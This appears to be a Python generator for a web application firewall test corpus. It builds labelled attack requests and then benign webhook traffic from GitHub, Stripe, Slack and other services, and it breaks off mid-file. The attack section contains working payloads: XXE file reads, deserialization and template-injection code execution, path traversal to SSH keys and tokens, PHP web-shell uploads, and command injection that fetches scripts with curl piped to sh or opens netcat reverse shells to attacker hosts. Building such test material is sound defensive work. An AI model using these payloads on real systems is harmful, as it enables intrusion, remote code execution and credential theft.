def xxe() -> list[Req]:
    svg = ('<?xml version="1.0" standalone="yes"?><!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/hostname">]>'
           '<svg width="128px" height="128px" xmlns="http://www.w3.org/2000/svg" version="1.1"><text font-size="16" x="0" y="16">&xxe;</text></svg>')
    doc = ('<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!DOCTYPE w:document [<!ENTITY % ext SYSTEM "http://' + OOB + '/docx.dtd"> %ext;]>'
           '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>&send;</w:t></w:r></w:p></w:body></w:document>')
    docx = {"[Content_Types].xml": '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>',
            "word/document.xml": doc}
    soap = ('<?xml version="1.0"?><!DOCTYPE soap:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><soap:Envelope '
            'xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body><GetUser xmlns="urn:shop"><id>&xxe;</id></GetUser>'
            '</soap:Body></soap:Envelope>')
    saml = ('<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % x SYSTEM "http://' + OOB + '/saml.dtd"> %x;]><samlp:Response '
            'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol" ID="_1" Version="2.0"><saml:Issuer xmlns:saml="urn:oasis:names:tc:SAML:2.0:assertion">'
            'https://idp.example</saml:Issuer></samlp:Response>')
    out = [
        multipart("xxe", "/api/v1/images", [("file", svg, "logo.svg", "image/svg+xml")]),
        multipart("xxe", "/api/v1/documents", [("file", zip_with(docx, stored=True), "invoice.docx",
                                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]),
        multipart("xxe", "/api/v1/documents", [("file", zip_with(docx, stored=False), "cv.docx",
                                                "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]),
        with_headers(xml("xxe", "/ws/UserService", soap, "text/xml; charset=utf-8"), {"SOAPAction": '"urn:shop#GetUser"'}),
        xml("xxe", "/api/v1/import", f'<?xml version="1.0"?><!DOCTYPE data [<!ENTITY % dtd SYSTEM "http://{OOB}/evil.dtd"> %dtd; %all;]><data>&fileContents;</data>'),
        xml("xxe", "/api/v1/orders", '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/.env">]>'
                                     '<order><note>&x;</note></order>'),
        js("xxe", "/api/v1/orders", {"items": [{"sku": "A1"}], "note": '<foo xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></foo>'}),
        raw("xxe", "POST", "/api/v1/orders", '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY e SYSTEM "file:///c:/windows/win.ini">]><r><id>&e;</id></r>',
            {"Content-Type": "application/json"}),
        raw("xxe", "POST", "/api/v1/feeds", ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE rss [<!ENTITY x SYSTEM "file:///etc/shadow">]>'
                                             '<rss><channel><title>&x;</title></channel></rss>').encode("utf-16"), {"Content-Type": "application/rss+xml"}),
        form("xxe", "/saml/acs", {"SAMLResponse": b64(saml), "RelayState": "/dashboard"}),
        multipart("xxe", "/api/v1/sheets/import", [("file", zip_with({"xl/workbook.xml":
            '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "http://' + OOB + '/xlsx">]><workbook>&e;</workbook>'}, stored=True),
            "data.xlsx", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")]),
        xml("xxe", "/api/v1/import", '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">'
                                     '<!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>'
                                     '<lolz>&lol3;</lolz>'),
    ]
    return out


def crlf_redirect() -> list[Req]:
    return [
        raw("crlf", "GET", "/login?next=%0d%0aSet-Cookie:%20sessionid=attacker-fixed"),
        raw("crlf", "GET", "/redirect?url=https://shop.example/%0D%0ALocation:%20https://evil.example"),
        raw("crlf", "GET", "/%0d%0aX-Injected:%20nuclei"),
        raw("crlf", "GET", "/api/v1/lang?set=en%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E"),
        raw("crlf", "GET", "/%E5%98%8A%E5%98%8DSet-Cookie:%20crlf=injection"),
        raw("crlf", "GET", "/logout?return=%0aSet-Cookie:%20admin=true"),
        raw("crlf", "GET", "/api/v1/download?name=report.pdf%0d%0aContent-Disposition:%20attachment;filename=evil.html"),
        raw("open_redirect", "GET", "/login?next=//evil.example/%2f.."),
        raw("open_redirect", "GET", "/oauth/callback?redirect_uri=https://evil.example%23@shop.example/"),
        raw("open_redirect", "GET", "/%5cevil.example/%2f%2e%2e"),
        raw("open_redirect", "GET", "/logout?continue=https:%2F%2Fevil.example%2Fphish"),
    ]


def host_and_verbs() -> list[Req]:
    return [
        with_headers(js("host_header", "/api/v1/password/forgot", {"email": "victim@shop.example"}), {"X-Forwarded-Host": "evil.example"}),
        with_headers(js("host_header", "/api/v1/password/forgot", {"email": "victim@shop.example"}), {"Host": "shop.example:@evil.example"}),
        hdr("host_header", {"Host": "shop.example'\"><script>alert(1)</script>"}, "/"),
        hdr("host_header", {"Host": f"${{jndi:ldap://{OOB}/host}}"}, "/"),
        hdr("host_header", {"Host": "localhost", "X-Forwarded-Host": "127.0.0.1"}, "/admin/"),
        raw("verb_tampering", "TRACE", "/", headers={"X-Xst-Probe": "<script>alert(1)</script>"}),
        raw("verb_tampering", "TRACK", "/"),
        raw("verb_tampering", "DEBUG", "/default.aspx", headers={"Command": "stop-debug"}),
        raw("verb_tampering", "GET", "/api/v1/admin/users/17", headers={"X-HTTP-Method-Override": "DELETE", "X-Original-Method": "DELETE"}),
    ]


def deserialization() -> list[Req]:
    pickle0 = b"cposix\nsystem\n(S'curl -s http://" + EVIL.encode() + b"/p.sh | sh'\ntR."
    node = b64('{"username":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'nc -e /bin/sh ' + EVIL + ' 4444\')}()"}')
    return [
        hdr("deserialization", {"Cookie": "profile=" + node}, "/api/v1/me"),
        hdr("deserialization", {"Cookie": "session=" + base64.b64encode(pickle0).decode()}, "/api/v1/me"),
        js("deserialization", "/api/v1/jobs", {"payload": base64.b64encode(pickle0).decode(), "format": "pickle"}),
        hdr("deserialization", {"Cookie": "user=" + q('O:4:"User":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}')}, "/account"),
        form("deserialization", "/api/v1/cart", {"cart": 'a:1:{i:0;O:8:"Monolog\\Handler\\SyslogUdpHandler":1:{s:9:"\x00*\x00socket";'
                                                 'O:29:"Monolog\\Handler\\BufferHandler":0:{}}}'}),
        raw("deserialization", "POST", "/api/v1/config/import", "!!python/object/apply:os.system [\"curl http://" + OOB + "/yaml | sh\"]",
            {"Content-Type": "application/x-yaml"}),
        raw("deserialization", "POST", "/api/v1/config/import", "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL "
            f"[\"http://{OOB}/yaml-payload.jar\"]]]]", {"Content-Type": "application/yaml"}),
        raw_json("deserialization", "/api/v1/settings", '["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://' + OOB + '/x"}]'),
        raw_json("deserialization", "/api/v1/settings", '{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":'
                 '"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + OOB + '/Exploit","autoCommit":true}}'),
        raw("deserialization", "POST", "/api/v1/session", base64.b64encode(
            b"\xac\xed\x00\x05sr\x002sun.reflect.annotation.AnnotationInvocationHandlerU\xca\xf5\x0f\x15\xcb~\xa5\x02\x00\x02L\x00\x0c"
            b"memberValuest\x00\x0fLjava/util/Map;L\x00\x04typet\x00\x11Ljava/lang/Class;xpsr\x00*org.apache.commons.collections.map."
            b"LazyMap\x00\x00org.apache.commons.collections.functors.InvokerTransformert\x00\x04execur\x00\x13[Ljava.lang.String;"
            b"t\x00\x0ftouch /tmp/pwn"), {"Content-Type": "application/x-java-serialized-object"}),
    ]


def ssti() -> list[Req]:
    return [
        js("ssti", "/api/v1/email-templates/preview", {"subject": "Hi {{cycler.__init__.__globals__.os.popen('id').read()}}", "body": "x"}),
        js("ssti", "/api/v1/profile", {"first_name": "{{lipsum.__globals__['os'].popen('cat /etc/passwd').read()}}"}, method="PATCH"),
        form("ssti", "/api/v1/invoices/preview", {"footer": '<#assign ex="freemarker.template.utility.Execute"?new()> ${ex("id")}'}),
        raw("ssti", "GET", "/doc/__" + q("${T(java.lang.Runtime).getRuntime().exec('id')}") + "__::.x"),
        js("ssti", "/api/v1/notifications", {"template": "{{['id']|filter('system')}}"}),
        js("ssti", "/api/v1/notifications", {"template": "<%= `cat /etc/passwd` %>"}),
        get("ssti", "/api/v1/greeting", {"name": "{system('curl http://" + OOB + "/smarty')}"}),
        form("ssti", "/api/v1/pages/render", {"content": "{% import os %}{{os.popen('id').read()}}"}),
        get("ssti", "/api/v1/search", {"q": "${{7*7}}"}),  # nuclei's arithmetic probe
        get("ssti", "/api/v1/search", {"q": "{{7*'7'}}"}),
        js("ssti", "/api/v1/reports", {"title": "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"id\")"}),
        js("ssti", "/api/v1/cards", {"message": "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}"
                                                 "{{this.push (lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}"
                                                 "{{this.pop}}{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}"
                                                 "{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}"
                                                 "{{/with}}{{/with}}{{/with}}"}),
    ]


def lfi_and_traversal() -> list[Req]:
    return [
        get("traversal", "/api/v1/download", {"file": "....//....//....//....//etc/passwd"}),
        raw("traversal", "GET", "/api/v1/static/..%252f..%252f..%252f..%252fetc%252fpasswd"),
        raw("traversal", "GET", "/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
        get("traversal", "/api/v1/files", {"path": "/var/run/secrets/kubernetes.io/serviceaccount/token"}),
        get("traversal", "/api/v1/export", {"template": "/proc/self/environ"}),
        raw("traversal", "GET", "/api/v1/images/%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
        get("traversal", "/api/v1/view", {"page": "../../../../../../../../../../../../../../../../Windows/system.ini"}),  # ZAP
        get("traversal", "/api/v1/view", {"page": "c:\\Windows\\system.ini"}),  # ZAP
        multipart("traversal", "/api/v1/uploads", [("file", b"<?php system($_GET['c']); ?>", "../../../../var/www/html/s.php", "image/png")]),
        multipart("traversal", "/api/v1/uploads", [("file", b"x", "..\\..\\..\\inetpub\\wwwroot\\x.aspx", "image/png")]),
        get("traversal", "/api/v1/view", {"page": "php://filter/read=convert.base64-encode/resource=../config.php"}),
        get("rce", "/api/v1/view", {"page": "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==", "c": "id"}),
        get("rce", "/api/v1/view", {"page": "expect://id"}),
        get("rce", "/index.php", {"page": f"http://{EVIL}/shell.txt?"}),
        raw("traversal", "GET", "/api/v1/download?file=/etc/passwd%00.pdf"),
        js("traversal", "/api/v1/reports/render", {"layout": "../../../../../../root/.ssh/id_rsa", "format": "pdf"}),
        raw("traversal", "GET", "/api/v1/logs?name=..%2F..%2F..%2F..%2Fvar%2Flog%2Fauth.log"),
    ]


def nosqli() -> list[Req]:
    return [
        raw("nosqli", "GET", "/api/v1/login?username[$ne]=admin&password[$ne]=x"),
        js("nosqli", "/api/v1/login", {"username": "admin", "password": {"$regex": "^a.*"}}),
        js("nosqli", "/api/v1/users/search", {"$where": "this.password.match(/^a/) || sleep(5000)"}),
        form("nosqli", "/api/v1/login", {"user[$gt]": "", "pass[$gt]": ""}),
        js("nosqli", "/api/v1/orders", {"filter": {"$expr": {"$function": {"body": "function(){ return db.getSiblingDB('admin') }", "args": [], "lang": "js"}}}}),
    ]


def command_injection() -> list[Req]:
    return [
        js("rce", "/api/v1/tools/ping", {"host": f"8.8.8.8;curl http://{EVIL}/x|sh"}),
        js("rce", "/api/v1/tools/dns", {"domain": f"example.com$(wget -qO- http://{EVIL}/y|sh)"}),
        form("rce", "/api/v1/tools/traceroute", {"target": "127.0.0.1|cat /etc/passwd"}),
        get("rce", "/api/v1/convert", {"format": "png`id`"}),
        multipart("rce", "/api/v1/uploads", [("file", b"\x89PNG\r\n", f"a.png;curl {OOB}|sh;.png", "image/png")]),
        multipart("rce", "/api/v1/images/resize", [("file", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|"
                                                    f"curl \"http://{OOB}/im)'\npop graphic-context\n", "img.mvg", "image/png")]),
        multipart("rce", "/api/v1/avatars", [("file", b"GIF89a<?php eval($_POST['x']); ?>", "shell.php.gif", "image/gif")]),
        multipart("rce", "/api/v1/uploads", [("file", '<%@ Page Language="C#" %><% System.Diagnostics.Process.Start("cmd.exe","/c whoami > '
                                              'c:\\\\inetpub\\\\wwwroot\\\\o.txt"); %>', "report.aspx", "application/octet-stream")]),
        js("rce", "/api/v1/git/clone", {"repo": "--upload-pack=touch /tmp/pwned", "branch": "main"}),
        js("rce", "/api/v1/backup", {"target": "s3://bucket/x", "options": "--exclude '*' ; nc -e /bin/bash 203.0.113.66 4444"}),
        get("rce", "/api/v1/tools/whois", {"q": "example.com\n/bin/cat /etc/passwd"}),
        form("rce", "/cgi-bin/luci/;stok=/locale", {"form": "country", "operation": "write", "country": "$(id>/tmp/x)"}),
    ]


def recon() -> list[Req]:
    paths = ["/.env", "/.git/config", "/actuator/heapdump", "/server-status", "/.aws/credentials", "/phpinfo.php",
             "/wp-config.php.bak", "/backup.sql", "/.svn/entries", "/WEB-INF/web.xml", "/.DS_Store", "/.vscode/sftp.json",
             "/id_rsa", "/config/database.yml", "/.docker/config.json"]
    return [hdr("recon", {"User-Agent": CHROME}, p) for p in paths]


def scanners() -> list[Req]:
    return [
        hdr("scanner", {"User-Agent": "sqlmap/1.8.4#stable (https://sqlmap.org)"}, "/api/v1/products?id=1"),
        hdr("scanner", {"User-Agent": "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000003)"}, "/cgi-bin/"),
        hdr("scanner", {"Acunetix-Aspect": "enabled", "Acunetix-Aspect-Password": "082119f75623eb7abd7bf357698ff66c",
                        "Acunetix-Aspect-Queries": "filelist;aspectalerts"}, "/"),
        hdr("scanner", {"User-Agent": "Mozilla/5.0 zgrab/0.x"}, "/"),
        hdr("scanner", {"User-Agent": "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)"}, "/wp-json/wp/v2/users"),
        hdr("scanner", {"User-Agent": "Fuzz Faster U Fool v2.1.0-dev"}, "/api/v1/admin"),
        hdr("scanner", {"User-Agent": "masscan/1.3 (https://github.com/robertdavidgraham/masscan)"}, "/"),
        hdr("scanner", {"User-Agent": "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)"}, "/nmaplowercheck1716"),
    ]


# --------------------------------------------------------------------------------------------------
# Legitimate API traffic that a careless WAF refuses
# --------------------------------------------------------------------------------------------------

_rng = random.Random(20240521)


def rand_b64(n: int) -> str:
    return base64.b64encode(bytes(_rng.getrandbits(8) for _ in range(n))).decode()


def rand_hex(n: int) -> str:
    return "".join(_rng.choice("0123456789abcdef") for _ in range(n))


def rs256_token(claims: dict[str, Any]) -> str:
    return jwt({"alg": "RS256", "typ": "JWT", "kid": "2024-05-rot"}, claims, bytes(_rng.getrandbits(8) for _ in range(256)))


def pem(kind: str, nbytes: int) -> str:
    body = rand_b64(nbytes)
    return f"-----BEGIN {kind}-----\n" + "\n".join(body[i:i + 64] for i in range(0, len(body), 64)) + f"\n-----END {kind}-----\n"


def png_bytes() -> bytes:
    import struct
    import zlib

    def chunk(t: bytes, d: bytes) -> bytes:
        return struct.pack(">I", len(d)) + t + d + struct.pack(">I", zlib.crc32(t + d) & 0xFFFFFFFF)
    rows = b"".join(b"\x00" + bytes(_rng.getrandbits(8) for _ in range(48 * 3)) for _ in range(48))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 48, 48, 8, 2, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b""))


def webhooks() -> list[Req]:
    gh = {"X-GitHub-Event": "push", "X-GitHub-Delivery": "7f5b2a40-1d0c-11ef-9a4e-3c1c2f0b9e11", "User-Agent": "GitHub-Hookshot/a1b2c3d",
          "X-Hub-Signature-256": "sha256=" + rand_hex(64)}
    commit = {"id": rand_hex(40), "message": "Fix SQL injection in /search: use bound parameters instead of f-strings (#482)\n\n"
                                             "The old code built `WHERE name LIKE '%{q}%'` by hand. Also escape <, > and & in the snippet.",
              "timestamp": "2024-05-21T10:12:44+02:00", "author": {"name": "Zoë O'Connor", "email": "zoe@dev.example", "username": "zoeoc"},
              "added": ["src/search/query.py"], "modified": ["src/search/views.py", "tests/test_search.py", ".github/workflows/ci.yml"], "removed": []}
    out = [
        js("benign", "/hooks/github", {"ref": "refs/heads/main", "before": rand_hex(40), "after": rand_hex(40), "commits": [commit],
                                       "repository": {"full_name": "acme/shop-api", "html_url": "https://github.com/acme/shop-api"},
                                       "pusher": {"name": "zoeoc"}}, headers=gh),
        js("benign", "/hooks/github", {"action": "opened", "number": 913, "pull_request": {
            "title": "Drop legacy `users_old` table and select from the view instead",
            "body": "## What\nRemoves the `users_old` table (migration below) and switches reads to `v_users`.\n\n```sql\n"
                    "DROP TABLE IF EXISTS users_old;\nCREATE VIEW v_users AS SELECT id, email, created_at FROM users WHERE deleted_at IS NULL;\n```\n\n"
                    "## How to test\n```bash\nmake db-reset && pytest -k users -q\n```\n\n- [x] migration is reversible\n- [ ] docs\n\ncc @db-team",
            "head": {"ref": "feat/drop-users-old"}, "base": {"ref": "main"}}}, headers=gh | {"X-GitHub-Event": "pull_request"}),
        js("benign", "/hooks/github", {"action": "created", "issue": {"number": 77, "title": "Crash when importing CSV with BOM"},
                                       "comment": {"body": "Same here, on 2.3.1:\n\n```\nTraceback (most recent call last):\n  File \"/usr/local/lib/python3.12/"
                                                           "site-packages/shop/importer.py\", line 88, in read_rows\n    header = next(reader)\n"
                                                           "UnicodeDecodeError: 'utf-8' codec can't decode byte 0xff in position 0: invalid start byte\n```\n"
                                                           "Workaround: `iconv -f utf-16 -t utf-8 in.csv > out.csv` 🙏"}},
           headers=gh | {"X-GitHub-Event": "issue_comment"}),
        js("benign", "/hooks/github", {"action": "completed", "workflow_run": {"name": "CI", "conclusion": "failure", "head_branch": "main",
                                                                                "html_url": "https://github.com/acme/shop-api/actions/runs/9182736455",
                                                                                "display_title": "Merge pull request #913 from acme/feat/drop-users-old"}},
           headers=gh | {"X-GitHub-Event": "workflow_run"}),
        js("benign", "/hooks/stripe", {"id": "evt_1PIqZ2LkdIwHu7ix0Qq9xYz1", "object": "event", "type": "payment_intent.succeeded", "livemode": False,
                                       "data": {"object": {"id": "pi_3PIqZ1LkdIwHu7ix1abcDEF2", "amount": 4599, "currency": "eur",
                                                           "description": "Order #10234 – 2× T-shirt \"Hello, World!\"",
                                                           "metadata": {"order_id": "10234", "note": "leave at door; ring twice"},
                                                           "shipping": {"name": "Seán Ó Briain", "address": {"line1": "12 D'Olier St", "city": "Dublin 2",
                                                                                                           "postal_code": "D02 XE80", "country": "IE"}}}}},
           ascii_only=False, headers={"Stripe-Signature": f"t=1716284100,v1={rand_hex(64)}", "User-Agent": "Stripe/1.0 (+https://stripe.com/docs/webhooks)"}),
        js("benign", "/hooks/stripe", {"id": "evt_1PIr002LkdIwHu7", "type": "customer.updated", "data": {"object": {
            "id": "cus_Q9abc", "name": "Barnes & Noble Booksellers, Inc.", "email": "ap@bn.example",
            "invoice_settings": {"footer": "Net 30. Questions? billing@acme.example <or> +1 (555) 010-2020"}},
            "previous_attributes": {"name": "Barnes and Noble"}}}, headers={"Stripe-Signature": f"t=1716284200,v1={rand_hex(64)}"}),
        form("benign", "/slack/commands", {"token": "gIkuvaNzQIHg97ATvDxqgjtO", "team_id": "T0001", "team_domain": "acme",
                                           "channel_id": "C2147483705", "channel_name": "deploys", "user_id": "U2147483697", "user_name": "steve",
                                           "command": "/deploy", "text": "api-server@v2.14.0 to production --canary 10%",
                                           "response_url": "https://hooks.slack.com/commands/1234/5678/abcdefgh", "trigger_id": "13345224609.738474920.8088930838d88f008e0"}),
        js("benign", "/slack/events", {"token": "XXYYZZ", "team_id": "T061EG9R6", "type": "event_callback", "event": {
            "type": "message", "channel": "C024BE91L", "user": "U2147483697", "ts": "1716284300.000200",
            "text": "<@U061F7AUR> the nightly job failed again :scream: see <https://ci.acme.example/job/nightly/812/console|build #812> "
                    "— looks like `DELETE FROM sessions WHERE expires_at < now()` timed out"}}),
        form("benign", "/slack/interactive", {"payload": json.dumps({"type": "block_actions", "user": {"id": "U123", "username": "amira"},
                                                                     "actions": [{"action_id": "approve", "value": "deploy:42", "type": "button"}],
                                                                     "response_url": "https://hooks.slack.com/actions/T123/456/xyz",
                                                                     "message": {"text": "Deploy *api* to prod? <!here>"}})}),
        form("benign", "/hooks/twilio/sms", {"ToCountry": "US", "ToState": "CA", "SmsMessageSid": "SM" + rand_hex(32), "NumMedia": "0",
                                             "From": "+14155550123", "To": "+14155559876", "Body": "STOP? no wait - I'd like to reschedule to Tue @ 3pm :)",
                                             "AccountSid": "AC" + rand_hex(32), "ApiVersion": "2010-04-01"},),
        js("benign", "/hooks/shopify/orders-create", {"id": 820982911946154508, "email": "jon@example.com", "note": "Gift wrap please & add a card: \"Happy 30th!\"",
                                                      "shipping_address": {"first_name": "Jean-François", "last_name": "L'Écuyer", "address1": "5 rue de l'Église",
                                                                           "address2": "Bât. B, 3e étage", "city": "Québec", "province": "QC", "zip": "G1R 4P5"},
                                                      "line_items": [{"title": "Mug \"<3 Coffee\"", "quantity": 2, "price": "12.00"}]},
           ascii_only=False, headers={"X-Shopify-Topic": "orders/create", "X-Shopify-Hmac-Sha256": rand_b64(32), "X-Shopify-Shop-Domain": "acme.myshopify.com"}),
        multipart("benign", "/hooks/sendgrid/inbound", [
            ("headers", "Received: from mail-wm1-f41.google.com (mail-wm1-f41.google.com [209.85.128.41])\n\tby mx.sendgrid.net with SMTP id abc\n"
                        "From: Maria Garcia <maria@example.org>\nTo: support@acme.example\nSubject: Re: Order #10234 – wrong size\n"
                        "Content-Type: multipart/alternative; boundary=\"000000000000b1f2\"\n", None, None),
            ("text", "Hi,\n\nThe size is M, not L. Can you swap it?\n\nThanks!\nMaria\n\nOn Tue, May 21, 2024 at 9:02 AM Acme Support <support@acme.example> wrote:\n"
                     "> Hello Maria,\n> your order has shipped. Track it here: https://track.example/pkg?id=1Z999AA10123456784\n>\n> -- \n> Acme Support\n", None, None),
            ("html", "<div dir=\"ltr\">Hi,<br><br>The size is M, not L. Can you swap it?<br><br>Thanks!<br>Maria</div><br><div class=\"gmail_quote\">"
                     "<div dir=\"ltr\" class=\"gmail_attr\">On Tue, May 21, 2024 at 9:02 AM Acme Support &lt;<a href=\"mailto:support@acme.example\">"
                     "support@acme.example</a>&gt; wrote:<br></div><blockquote class=\"gmail_quote\" style=\"margin:0px 0px 0px 0.8ex;border-left:1px solid "
                     "rgb(204,204,204);padding-left:1ex\">Hello Maria,</blockquote></div>", None, None),
            ("from", "Maria Garcia <maria@example.org>", None, None), ("subject", "Re: Order #10234 – wrong size", None, None)]),
        form("benign", "/hooks/mailgun", {"sender": "bob@example.net", "recipient": "tickets@acme.example", "subject": "Fwd: invoice 2024-05 (corrected)",
                                          "body-plain": "see below\n\n---------- Forwarded message ---------\nFrom: Billing <billing@vendor.example>\n"
                                                        "Date: Mon, 20 May 2024 at 17:40\nSubject: invoice 2024-05 (corrected)\nTo: <bob@example.net>\n\n"
                                                        "Amount due: $1,250.00 (was $1,520.00 -- typo, sorry!)\n",
                                          "stripped-text": "see below", "timestamp": "1716284400", "token": rand_hex(50), "signature": rand_hex(64)}),
        js("benign", "/hooks/jira", {"webhookEvent": "jira:issue_updated", "issue": {"key": "OPS-1142", "fields": {
            "summary": "Slow query on orders dashboard", "description": "The dashboard query takes 40s:\n{code:sql}\nSELECT o.id, c.name, SUM(l.qty * l.price) AS total\n"
                                                                         "FROM orders o JOIN customers c ON c.id = o.customer_id\nJOIN order_lines l ON l.order_id = o.id\n"
                                                                         "WHERE o.created_at > now() - interval '30 days'\nGROUP BY o.id, c.name ORDER BY total DESC LIMIT 50;\n{code}\n"
                                                                         "EXPLAIN shows a seq scan on order_lines."}},
                                     "changelog": {"items": [{"field": "priority", "fromString": "Medium", "toString": "High"}]}}),
        js("benign", "/hooks/sentry", {"action": "triggered", "data": {"event": {"title": "TypeError: Cannot read properties of undefined (reading 'map')",
                                                                                 "culprit": "src/components/OrderList.tsx in OrderList",
                                                                                 "exception": {"values": [{"type": "TypeError", "value": "Cannot read properties of undefined (reading 'map')",
                                                                                                           "stacktrace": {"frames": [{"filename": "webpack:///./src/components/OrderList.tsx", "lineno": 42,
                                                                                                                                      "function": "OrderList", "context_line": "  return orders.map((o) => <OrderRow key={o.id} order={o} />);"}]}}]},
                                                                                 "request": {"url": "https://app.acme.example/orders?status=open&sort=-created_at"}}}}),
        js("benign", "/hooks/pagerduty", {"event": {"event_type": "incident.triggered", "data": {"title": "[FIRING:1] HighErrorRate api (5xx > 2% for 5m)",
                                                                                                "html_url": "https://acme.pagerduty.com/incidents/Q1ABCDEF",
                                                                                                "urgency": "high", "body": {"details": "rate(http_requests_total{code=~\"5..\"}[5m]) / rate(http_requests_total[5m]) > 0.02"}}}}),
        js("benign", "/hooks/gitlab", {"object_kind": "merge_request", "user": {"name": "Ana Ivanović"}, "object_attributes": {
            "title": "Resolve \"Users can't log in when password contains '&'\"", "description": "Closes #311.\n\nWe were not URL-encoding the form body; `&` and `=` broke parsing.",
            "source_branch": "311-password-ampersand", "target_branch": "main", "state": "opened"}}, ascii_only=False, headers={"X-Gitlab-Event": "Merge Request Hook", "X-Gitlab-Token": "s3cr3t-hook"}),
        js("benign", "/hooks/discord", {"type": 2, "data": {"name": "remind", "options": [{"name": "when", "value": "in 2h"}, {"name": "what", "value": "review PR #913 (drop table users_old) 👀"}]},
                                        "guild_id": "613425648685547541", "member": {"user": {"username": "kdz", "id": "53908232506183680"}}}, ascii_only=False),
        js("benign", "/hooks/datadog", {"title": "[Triggered] Disk usage > 90% on db-1", "body": "%%%\nDisk /var/lib/postgresql is 91.3% full on host db-1.\n\n"
                                                                                                "@slack-ops @pagerduty-db\n%%%", "alert_type": "error",
                                        "tags": "env:prod,service:postgres,device:/dev/nvme1n1", "link": "https://app.datadoghq.com/monitors/123456?from_ts=1716280000000"}),
        js("benign", "/v1/batch", {"batch": [{"type": "track", "event": "Search Performed", "userId": f"u_{i}", "properties": {
            "query": ["red dress", "drop shoulder top", "select fit jeans", "union jack mug", "ps5 & controller", "50% off", "c++ book", "kids' shoes"][i % 8],
            "results": i * 3, "url": f"https://shop.example/search?q=item{i}&page=2"}, "timestamp": "2024-05-21T10:00:00.000Z"} for i in range(40)],
                                   "sentAt": "2024-05-21T10:00:01.000Z"}, headers={"User-Agent": "analytics-node/6.2.0"}),
        form("benign", "/hooks/typeform", {"form_response[answers][0][text]": "I love it, but <shipping> took 3 weeks & the box was damaged :(",
                                           "form_response[answers][1][number]": "7", "form_response[hidden][utm_source]": "newsletter"}),
        js("benign", "/hooks/calendly", {"event": "invitee.created", "payload": {"name": "Dr. Müller-Lüdenscheidt", "email": "mueller@example.de",
                                                                                  "questions_and_answers": [{"question": "Anything we should know?", "answer": "Wheelchair access > stairs, please."}],
                                                                                  "scheduled_event": {"start_time": "2024-06-03T14:00:00.000000Z", "location": {"join_url": "https://zoom.us/j/98765432100?pwd=aBcD1234"}}}}, ascii_only=False),
    ]
    return out


def cicd_and_k8s() -> list[Req]:
    workflow = {"name": "CI", "on": {"push": {"branches": ["main"]}, "pull_request": None}, "jobs": {"test": {"runs-on": "ubuntu-latest", "steps": [
        {"uses": "actions/checkout@v4"}, {"uses": "actions/setup-python@v5", "with": {"python-version": "3.12"}},
        {"name": "Install", "run": "curl -sSL https://install.python-poetry.org | python3 -\npoetry install --no-interaction"},
        {"name": "Lint", "run": "poetry run ruff check . && poetry run mypy src"},
        {"name": "Test", "run": "poetry run pytest -q --cov=src --cov-report=xml\ncat /etc/os-release\nfind . -name '*.pyc' -delete"},
        {"name": "Docker login", "run": "echo \"${{ secrets.GHCR_TOKEN }}\" | docker login ghcr.io -u ${{ github.actor }} --password-stdin"},
        {"name": "Build", "run": "docker build -t ghcr.io/acme/api:$(git rev-parse --short HEAD) . && docker push ghcr.io/acme/api:$(git rev-parse --short HEAD)"}]}}}
    gitlab_ci = ("stages: [build, test, deploy]\n\nvariables:\n  DOCKER_DRIVER: overlay2\n\nbuild:\n  stage: build\n  image: docker:24\n  script:\n"
                 "    - docker build --build-arg COMMIT=$CI_COMMIT_SHA -t $CI_REGISTRY_IMAGE:$CI_COMMIT_SHORT_SHA .\n"
